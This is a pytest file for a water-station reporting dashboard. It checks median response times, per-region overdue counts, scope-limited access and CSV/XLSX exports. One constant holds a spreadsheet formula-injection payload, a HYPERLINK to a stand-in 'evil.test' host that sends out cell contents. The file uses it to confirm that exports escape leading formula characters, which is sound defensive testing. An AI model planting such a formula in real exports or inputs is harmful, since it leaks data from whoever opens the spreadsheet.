"""Reports on the dashboard: counts, median hours, overdue per region, exports; each in the caller's scope."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from stationfinder.dashboard import report_tables
from stationfinder.extensions import db
from stationfinder.models import Station, User
from stationfinder.services import reports
from stationfinder.services.accounts import scope_of
from stationfinder.services.reports import figures
from stationfinder.services.stats import query as stats
from tests.staff import login, make_world

RANGE = {"from": "2025-03-01", "to": "2025-03-10", "lang": "en"}
DAY = datetime(2025, 3, 2, 2, 0, tzinfo=UTC)
GY, BJ = (26.58, 106.71), (27.30, 105.28)  # 贵阳市南明区 (520102), 毕节市七星关区 (520502)
HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"click")'
# user -> (median hours to acknowledge, median hours to fix, reports seen), from the world below.
EXPECTED = {
    "admin": (4.0, 6.0, 5),
    "staff_520000": (4.0, 6.0, 5),
    "staff_520100": (3.0, 6.0, 3),
    "staff_520500": (5.0, None, 2),
    "manager_gy": (2.0, 6.0, 2),
    "manager_bj": (5.0, None, 1),
}


def _file(kind, category, at, **where):
    report, merged = reports.file_report(kind, category, now=at, **where)
    assert not merged
    return report


def build(app) -> dict[str, str]:
    """File and work six reports in March 2025 (one of them in February); return their codes."""
    ids = make_world(app)
    with app.app_context():
        admin = db.session.scalar(sa.select(User).where(User.username == "admin"))
        gy1 = _file("station", "no_water", DAY, station_id=ids["gy"], description=HOSTILE)
        gy2 = _file("station", "dirty", DAY + timedelta(days=1), station_id=ids["gy"])
        place_gy = _file("community", "blocked_passage", DAY + timedelta(days=2), lat=GY[0], lon=GY[1])
        place_bj = _file("community", "road_hazard", DAY + timedelta(days=3), lat=BJ[0], lon=BJ[1])
        bj = _file("station", "no_water", DAY + timedelta(days=3), station_id=ids["bj"])
        before = _file("station", "full", DAY - timedelta(days=30), station_id=ids["gy"])
        for report, ack, fix in ((gy1, 1, 2), (gy2, 3, 10), (place_gy, 10, None), (before, 1, 1)):
            reports.change(report, admin, status="acknowledged", now=report.created_at + timedelta(hours=ack))
            if fix is not None:
                at = report.created_at + timedelta(hours=fix)
                reports.change(report, admin, status="fixed", note="好了", now=at)
        # Closed without a fix: it counts as acknowledged (5 h) and not as fixed.
        reports.change(bj, admin, status="duplicate", note="重复", now=bj.created_at + timedelta(hours=5))
        db.session.get(Station, ids["gy"]).name = "=1+2 驿站"
        db.session.commit()
        return {"gy1": gy1.code, "gy2": gy2.code, "place_gy": place_gy.code, "place_bj": place_bj.code,
                "bj": bj.code, "before": before.code}  # fmt: skip


@pytest.fixture
def world(app):
    return build(app)


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response.content_type.startswith("text/csv")
    assert response.headers["Cache-Control"] == "private, no-store"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def read_xlsx(response) -> list[list]:
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    return [["" if v is None else v for v in row] for row in book.worksheets[0].iter_rows(values_only=True)]


def question(app, username: str, **filters):
    with app.app_context():
        user = db.session.scalar(sa.select(User).where(User.username == username))
        return stats.prepare(scope_of(user), RANGE["from"], RANGE["to"], **filters)


@pytest.mark.parametrize("username", sorted(EXPECTED))
def test_median_hours_in_each_scope(app, world, username):
    ack, fix, count = EXPECTED[username]
    query = question(app, username)
    with app.test_request_context():
        times = figures.times(query)
        total = sum(g.count for g in figures.groups(query))
    assert (times.ack_hours, times.fix_hours, total) == (ack, fix, count)


@pytest.mark.parametrize("username", sorted(EXPECTED))
def test_the_page_and_its_exports_show_the_callers_figures(client, world, username):
    ack, fix, count = EXPECTED[username]
    login(client, username)
    html = client.get("/dashboard/", query_string=RANGE).get_data(as_text=True)
    assert 'id="reports"' in html and 'data-table="report_times"' in html
    rows = {
        r[0]: r[1:] for r in read_csv(client.get("/dashboard/export/report_times.csv", query_string=RANGE))
    }
    assert rows["Reports filed"] == [str(count), str(count)]
    assert rows["Median hours to acknowledge"][0] == str(ack)
    assert rows["Median hours to fix"][0] == ("" if fix is None else str(fix))
    listed = read_csv(client.get("/dashboard/export/reports.csv", query_string=RANGE))
    assert len(listed) == count + 1


def test_reports_by_category_and_status(client, world):
    login(client, "admin")
    table = read_csv(client.get("/dashboard/export/report_categories.csv", query_string=RANGE))
    header = table[0]
    assert header[:2] == ["Category", "New"] and header[-2:] == ["Total", "Overdue"]
    rows = {r[0]: dict(zip(header[1:], map(int, r[1:]), strict=True)) for r in table[1:]}
    assert rows["No drinking water"]["Fixed"] == 1 and rows["No drinking water"]["Duplicate"] == 1
    assert rows["No drinking water"]["Total"] == 2
    assert rows["Blocked passage"]["Acknowledged"] == 1 and rows["Blocked passage"]["Overdue"] == 1
    assert rows["Road hazard"]["New"] == 1 and rows["Road hazard"]["Overdue"] == 1
    assert "Full" not in rows  # filed in February, outside the days asked


@pytest.mark.parametrize(
    ("username", "filters", "expected"),
    [
        ("admin", {}, {"520000": ["5", "2", "2"]}),
        ("staff_520000", {}, {"520100": ["3", "1", "1"], "520500": ["2", "1", "1"]}),
        ("staff_520100", {}, {"520102": ["3", "1", "1"]}),
        ("admin", {"region": "520500"}, {"520502": ["2", "1", "1"]}),
        ("manager_gy", {}, {"520102": ["2", "0", "0"]}),
    ],
)
def test_overdue_per_region(client, world, username, filters, expected):
    login(client, username)
    table = read_csv(client.get("/dashboard/export/report_regions.csv", query_string={**RANGE, **filters}))
    assert table[0][2:] == ["Reports", "Still open", "Overdue"]
    assert {r[0]: r[2:] for r in table[1:]} == expected


def test_the_list_export_stays_in_scope_and_follows_the_filters(client, world):
    login(client, "staff_520500")
    codes = {r[0] for r in read_csv(client.get("/dashboard/export/reports.csv", query_string=RANGE))[1:]}
    assert codes == {world["place_bj"], world["bj"]}
    assert (
        client.get("/dashboard/export/reports.csv", query_string={**RANGE, "region": "520100"}).status_code
        == 403
    )
    client.post("/logout")
    login(client, "admin")
    codes = {
        r[0]
        for r in read_csv(
            client.get("/dashboard/export/reports.csv", query_string={**RANGE, "from": "2025-01-31"})
        )[1:]
    }
    assert world["before"] in codes and len(codes) == 6


def test_exports_of_reports_are_escaped(client, world):
    login(client, "admin")
    as_csv = read_csv(client.get("/dashboard/export/reports.csv", query_string=RANGE))
    as_xlsx = read_xlsx(client.get("/dashboard/export/reports.xlsx", query_string=RANGE))
    header = as_csv[0]
    for rows in (as_csv, as_xlsx):
        row = next(r for r in rows[1:] if r[0] == world["gy1"])
        assert row[header.index("Description")] == "'" + HOSTILE
        assert row[header.index("Station")] == "'=1+2 驿站"
        assert not any(isinstance(v, str) and v and v[0] in "=+-@" for r in rows for v in r)
    assert [str(v) for v in as_xlsx[0]] == header


def test_the_report_figures_take_two_statements_however_many_reports(app, world):
    """The dashboard's report section costs two statements, for six reports as for sixty."""
    query = question(app, "admin")

    def statements() -> list[str]:
        seen = []

        def listen(_conn, _cursor, statement, *_rest):
            if statement.lstrip().upper().startswith("SELECT"):  # not SQLite's BEGIN
                seen.append(statement)

        with app.test_request_context():
            sa.event.listen(db.engine, "before_cursor_execute", listen)
            try:
                report_tables.page(query, "en")
            finally:
                sa.event.remove(db.engine, "before_cursor_execute", listen)
        return seen

    few = statements()
    with app.app_context():
        station_id = db.session.scalar(sa.select(Station.id).where(Station.name == "station-bj"))
        for i in range(54):
            lat, lon = (GY, BJ)[i % 2]
            _file("community", "other", DAY + timedelta(hours=i), lat=lat, lon=lon)
        _file("station", "full", DAY, station_id=station_id)
        db.session.commit()
    many = statements()
    assert len(few) == len(many) == 2, many
